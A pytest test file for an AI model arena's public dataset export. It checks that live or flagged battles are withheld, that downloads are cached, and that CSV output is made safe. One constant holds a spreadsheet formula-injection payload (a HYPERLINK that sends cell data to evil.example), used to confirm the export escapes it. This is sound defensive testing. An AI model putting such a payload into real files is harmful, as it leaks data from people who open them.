"""Public data never leaks a live battle, and a public download is built once per filter set.

Probes of the old app: during an open anonymous battle the Dataset page's export listed it with both
contestants (a visitor learnt A and B before voting); every Download click rebuilt the whole export;
the CSV download ran formulas, held flagged battles and a remote engine's error text (issue 39).
"""

from __future__ import annotations

import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.webapp.conftest import open_app
from tests.webapp.test_arena_app import TURN_1, _send, _texts


def _ctx():  # noqa: ANN202
    from webapp import context

    return context.reader()


def _public_jsonl(scenario: str | None = None) -> bytes:
    from webapp import gateway_data

    ctx = _ctx()
    filters = gateway_data.public_filters(
        ctx.settings, scenario=scenario, since=None, until=None, corrections_only=False
    )
    return gateway_data.dataset_bytes(ctx, filters, fmt="jsonl", view="dialogues")


def test_an_open_battle_is_not_on_the_dataset_page(arena_env: Callable[..., str]) -> None:
    arena_env(public_export_delay_hours="0")
    arena = open_app("pages/arena.py")
    _send(arena, TURN_1)
    battle_id = arena.session_state["battle_id:anonymous"]
    page = open_app("pages/dataset.py")
    assert any("0 battles match" in c for c in _texts(page.caption))
    assert battle_id not in _public_jsonl().decode()
    arena.button(key="anonymous:vote_a").click().run()
    page = open_app("pages/dataset.py")
    assert any("1 battle matches" in c for c in _texts(page.caption)), "closed: public (no delay set)"


def test_a_recently_closed_battle_waits_for_the_delay(arena_env: Callable[..., str]) -> None:
    arena_env(public_export_delay_hours="1")
    arena = open_app("pages/arena.py")
    _send(arena, TURN_1)
    arena.button(key="anonymous:vote_a").click().run()
    page = open_app("pages/dataset.py")
    assert any("0 battles match" in c for c in _texts(page.caption))
    assert page.info[0].value.startswith(
        "1 battle recorded; 0 published yet: a battle is published 1 h after it closes; the next one at ")
    assert arena.session_state["battle_id:anonymous"] not in _public_jsonl().decode()


def test_a_public_download_is_built_once_per_filter_set(arena_env: Callable[..., str]) -> None:
    from webapp import gateway_data

    arena_env(public_export_delay_hours="0")
    before = gateway_data.BUILDS["jsonl/dialogues"]
    results: list[bytes] = []
    threads = [threading.Thread(target=lambda: results.append(_public_jsonl("calendar"))) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    results.append(_public_jsonl("calendar"))
    assert len(set(results)) == 1 and len(results) == 5
    assert gateway_data.BUILDS["jsonl/dialogues"] == before + 1, "five clicks, one build"
    _public_jsonl("free-chat")
    assert gateway_data.BUILDS["jsonl/dialogues"] == before + 2, "another filter set is its own build"


def test_the_mode_filter_on_the_dataset_page(arena_env: Callable[..., str]) -> None:
    """The page's Modes choice is the export's ``--mode``: an anonymous vote is gone with "direct" only."""
    arena_env(public_export_delay_hours="0")
    arena = open_app("pages/arena.py")
    _send(arena, TURN_1)
    arena.button(key="anonymous:vote_a").click().run()
    page = open_app("pages/dataset.py")
    assert any("1 battle matches" in c for c in _texts(page.caption))
    page.multiselect(key="ds_modes").set_value(["direct"]).run()
    assert any("0 battles match" in c for c in _texts(page.caption))
    page.multiselect(key="ds_modes").set_value(["anonymous", "direct"]).run()
    assert any("1 battle matches" in c for c in _texts(page.caption))


# --- issue 39: formulas, flagged battles and engine error text in the public download ----------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ENGINE_ERROR = ("HTTP 500 from server: model gpt-secret-7b at https://api.secret-engine.example/v1 "
                "failed for org-abc123")


def _battles_for_the_public(ctx, corrections: tuple[str, str] | None = None) -> tuple[str, str]:  # noqa: ANN001
    """A voted battle with formula text and two failed replies (an old row with the engine's own words,
    a new one in the public form), and a voted battle the admin then flags. Returns (public, flagged).
    ``corrections``: each battle's side b is corrected with that text before the vote."""
    from db import actions as db_actions
    from webapp import gateway_data

    for slug in ("m1", "m2"):
        db_actions.upsert_contestant(ctx.engine, slug=slug, display_name=slug.upper(), family="test")
    ids = []
    for i in range(2):
        battle = db_actions.open_battle(ctx.engine, mode="anonymous", scenario="calendar", contestant_a="m1",
                                        contestant_b="m2")
        for side in ("a", "b"):
            db_actions.append_message(ctx.engine, battle_id=battle.id, side=side, kind="request",
                                      content=FORMULA)
        db_actions.append_message(ctx.engine, battle_id=battle.id, side="a", kind="reply", content="-1",
                                  finish_reason="error", error=ENGINE_ERROR)
        db_actions.append_message(ctx.engine, battle_id=battle.id, side="b", kind="reply", content="@b",
                                  finish_reason="error", error="engine_error (error 1a2b3c4d)")
        if corrections is not None:
            db_actions.record_correction(ctx.engine, battle_id=battle.id, side="b", content=corrections[i])
        db_actions.record_vote(ctx.engine, battle_id=battle.id, choice="a")
        ids.append(battle.id)
    said = gateway_data.flag(ctx, battle_id=ids[1], reason="abuse", undo=False, admin_session="admin-1")
    assert "flagged" in said
    return ids[0], ids[1]


def _zipped_tables(blob: bytes) -> dict[str, list[dict[str, str]]]:
    import csv
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        return {name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(archive.read(name).decode())))
                for name in archive.namelist() if name.endswith(".csv")}


@pytest.mark.parametrize("backend", ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def test_the_public_download_is_safe_to_open_and_holds_what_the_page_counts(
    arena_env: Callable[..., str], backend: str, request: pytest.FixtureRequest
) -> None:
    """Probes: `=HYPERLINK(...)` reached `messages.csv` as a formula; a flagged battle was in the public
    download; a remote engine's error text (model, endpoint, org id) was exported word for word."""
    from webapp import gateway_data

    settings = {"public_export_delay_hours": "0"}
    if backend == "postgres":
        settings["database_url"] = request.getfixturevalue("pg_schema_url")
    arena_env(**settings)
    ctx = _ctx()
    public, flagged = _battles_for_the_public(ctx)
    page = open_app("pages/dataset.py")
    assert any("1 battle matches" in c for c in _texts(page.caption))
    assert [m.value for m in page.metric][:4] == ["1", "4", "0", "1"], "battles, messages, corrections, votes"

    filters = gateway_data.public_filters(ctx.settings, scenario=None, since=None, until=None,
                                          corrections_only=False)
    blob = gateway_data.dataset_bytes(ctx, filters, fmt="csv", view="dialogues")
    tables = _zipped_tables(blob)
    assert [len(tables[name]) for name in ("battles", "messages", "corrections", "votes")] == [1, 4, 0, 1]
    assert [b["id"] for b in tables["battles"]] == [public]
    assert {m["content"] for m in tables["messages"]} == {"'" + FORMULA, "'-1", "'@b"}
    assert [m["error"] for m in tables["messages"] if m["error"]] == ["engine_error", "engine_error"]
    text = str(tables)
    assert not any(word in text for word in ("gpt-secret-7b", "secret-engine", "org-abc123", "1a2b3c4d"))
    battles_csv = gateway_data.dataset_bytes(ctx, filters, fmt="csv", view="battles").decode()
    assert public in battles_csv and flagged not in battles_csv
    jsonl = gateway_data.dataset_bytes(ctx, filters, fmt="jsonl", view="dialogues").decode()
    assert FORMULA.replace('"', '\\"') in jsonl and flagged not in jsonl and "org-abc123" not in jsonl


def test_the_replay_download_is_a_file_replay_reads(arena_env: Callable[..., str], tmp_path: Path) -> None:
    """The Dataset page's replay items are what `scenarios replay --from` reads: the correction a person
    wrote, with the conversation up to the reply it corrects; a flagged battle's correction is not there."""
    from scenarios.replay import read_replay_file
    from webapp import gateway_data

    arena_env(public_export_delay_hours="0")
    ctx = _ctx()
    public, _ = _battles_for_the_public(ctx, corrections=("Just the API call please.", "Flagged words."))
    filters = gateway_data.public_filters(ctx.settings, scenario=None, since=None, until=None,
                                          corrections_only=False)
    path = tmp_path / "replay.jsonl"
    path.write_bytes(gateway_data.dataset_bytes(ctx, filters, fmt="jsonl", view="replay"))
    (item,) = read_replay_file(path)
    assert item.correction == "Just the API call please." and item.scenario == "calendar"
    assert [m.content for m in item.history[-2:]] == ["@b", "Just the API call please."]
    assert item.model == "m2" and item.battle_id == public
    page = open_app("pages/dataset.py")
    labels = [b.proto.label for b in page.get("download_button")]
    assert any(label.startswith("Replay items") for label in labels), labels
